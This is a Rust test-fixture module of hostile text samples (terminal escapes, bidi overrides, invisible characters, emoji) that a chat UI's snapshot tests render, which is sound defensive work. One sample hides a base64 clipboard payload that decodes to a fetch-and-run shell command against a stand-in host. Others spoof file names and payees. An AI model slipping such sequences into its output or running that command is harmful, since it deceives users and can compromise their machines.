//! Hostile text as data: strings a stranger could put in a name, a preview, a message body, a
//! caption or a file name. The sandbox seeds a chat from them and the UI's snapshot tests
//! render them; every sink must show them without harm.

use std::borrow::Cow;

/// One named sample.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct HostileText {
    pub name: &'static str,
    pub text: Cow<'static, str>,
}

const fn sample(name: &'static str, text: &'static str) -> HostileText {
    HostileText {
        name,
        text: Cow::Borrowed(text),
    }
}

/// Samples short enough for a name or a list row.
pub const SHORT: &[HostileText] = &[
    // Terminal escape sequences (7-bit).
    sample("csi_clear_screen", "before\x1b[2Jafter"),
    sample(
        "csi_cursor_movement",
        "safe\x1b[1A\x1b[2K\x1b[10;5Hforged line",
    ),
    sample("sgr_conceal", "visible\x1b[8msecret\x1b[0m"),
    sample("osc0_window_title", "\x1b]0;pwned\x07title"),
    sample(
        "osc52_clipboard_write",
        "\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07copied",
    ),
    sample(
        "osc8_hyperlink",
        "\x1b]8;;https://evil.example/\x1b\\click me\x1b]8;;\x1b\\",
    ),
    sample("dcs_capability_query", "\x1bP+q544e\x1b\\after"),
    sample("apc_graphics", "\x1b_Gf=100;AAAA\x1b\\after"),
    sample("pm_and_sos", "\x1b^private\x1b\\\x1bXstring\x1b\\after"),
    // C1 controls: the 8-bit forms of the same sequences.
    sample("c1_csi", "\u{9b}2Jcleared"),
    sample("c1_osc", "\u{9d}0;title\u{9c}after"),
    sample("c1_nel", "one\u{85}two"),
    // Other C0 controls and DEL.
    sample("nul", "a\0b"),
    sample("bel", "ding\x07\x07\x07"),
    sample(
        "backspaces",
        "password: hunter2\x08\x08\x08\x08\x08\x08\x08*******",
    ),
    sample("cr_overwrite", "Transfer to Alice\rTransfer to Mallory"),
    sample("crlf", "line one\r\nline two"),
    sample("del", "abc\x7fdef"),
    sample("tabs", "col1\tcol2\tcol3"),
    sample("vertical_tab_form_feed", "a\x0bb\x0cc"),
    // Bidirectional controls.
    sample("rlo_file_name", "invoice_\u{202E}fdp.exe"),
    sample(
        "bidi_isolates",
        "\u{2067}admin\u{2069} \u{2066}user\u{2069} \u{2068}x\u{2069}",
    ),
    sample(
        "bidi_embeddings",
        "\u{202A}ltr\u{202C}\u{202B}rtl\u{202C}\u{202D}lro\u{202C}",
    ),
    sample("bidi_marks", "a\u{200F}b\u{200E}c\u{061C}d"),
    // Invisible characters.
    sample("zero_width_space", "pay\u{200B}pal"),
    sample(
        "zero_width_non_joiner",
        "\u{645}\u{6CC}\u{200C}\u{62E}\u{648}\u{627}\u{647}\u{645}",
    ),
    sample("byte_order_mark", "\u{FEFF}hello"),
    sample("word_joiner_soft_hyphen", "ad\u{2060}mi\u{AD}n"),
    sample("line_separators", "one\u{2028}two\u{2029}three"),
    sample(
        "tag_smuggling",
        "hi\u{E0069}\u{E0067}\u{E006E}\u{E006F}\u{E0072}\u{E0065}\u{E007F}",
    ),
    sample("hangul_filler_name", "\u{3164}\u{3164}\u{3164}"),
    sample("lone_combining_mark", "\u{301}start"),
    // Emoji that must survive byte for byte.
    sample(
        "zwj_family",
        "\u{1F468}\u{200D}\u{1F469}\u{200D}\u{1F467}\u{200D}\u{1F466}",
    ),
    sample(
        "zwj_kiss_skin_tones",
        "\u{1F469}\u{1F3FB}\u{200D}\u{2764}\u{FE0F}\u{200D}\u{1F48B}\u{200D}\u{1F468}\u{1F3FC}",
    ),
    sample(
        "flags",
        "\u{1F1EB}\u{1F1F7}\u{1F1EF}\u{1F1F5}\u{1F1E7}\u{1F1F7}",
    ),
    sample(
        "subdivision_flag",
        "\u{1F3F4}\u{E0067}\u{E0062}\u{E0073}\u{E0063}\u{E0074}\u{E007F}",
    ),
    sample("skin_tones", "\u{1F44D}\u{1F3FD}\u{1F44B}\u{1F3FF}"),
    sample(
        "keycaps",
        "1\u{FE0F}\u{20E3}#\u{FE0F}\u{20E3}*\u{FE0F}\u{20E3}",
    ),
    sample("variation_selector_16", "\u{2764}\u{FE0F} \u{263A}\u{FE0F}"),
    // Scripts.
    sample("cjk", "你好，世界"),
    sample("fullwidth", "ＦＵＬＬＷＩＤＴＨ　ｔｅｘｔ"),
    sample("japanese", "こんにちは、カタカナ"),
    sample("korean", "안녕하세요"),
    sample(
        "zalgo",
        "Z\u{351}\u{36B}\u{343}\u{346}\u{352}\u{302}\u{310}\u{314}\u{315}\u{31A}\u{358}\u{360}\
         a\u{300}\u{301}\u{302}\u{303}\u{304}\u{305}\u{306}\u{307}\u{308}\u{309}\u{30A}\u{30B}lgo",
    ),
    sample("arabic", "مرحبا، السلام عليكم"),
    sample("hebrew", "שָׁלוֹם עוֹלָם"),
    sample("mixed_direction", "Order #123 طلب رقم ١٢٣ done"),
    sample("devanagari", "नमस्ते दुनिया क्‍ष"),
    sample("thai", "สวัสดีครับ ภาษาไทย"),
];

/// A line of about 100 KB: words of mixed scripts and emoji, no line break.
pub fn huge_line() -> HostileText {
    const WORDS: &str = "lorem ipsum 你好 \u{1F44D}\u{1F3FD} naïve ";
    let repeats = 100 * 1024 / WORDS.len() + 1;
    HostileText {
        name: "huge_line",
        text: Cow::Owned(WORDS.repeat(repeats)),
    }
}

/// About 100 KB without a space (a pasted blob): wrapping must fall back to cluster breaks.
pub fn huge_word() -> HostileText {
    const PIECE: &str = "a你\u{1F44D}e\u{301}";
    let repeats = 100 * 1024 / PIECE.len() + 1;
    HostileText {
        name: "huge_word",
        text: Cow::Owned(PIECE.repeat(repeats)),
    }
}

/// A message of 10 000 lines.
pub fn many_lines() -> HostileText {
    let text = (1..=10_000)
        .map(|n| format!("line {n}"))
        .collect::<Vec<_>>()
        .join("\n");
    HostileText {
        name: "many_lines",
        text: Cow::Owned(text),
    }
}

/// Every sample, the short ones first.
pub fn corpus() -> impl Iterator<Item = HostileText> {
    SHORT
        .iter()
        .cloned()
        .chain([huge_line(), huge_word(), many_lines()])
}
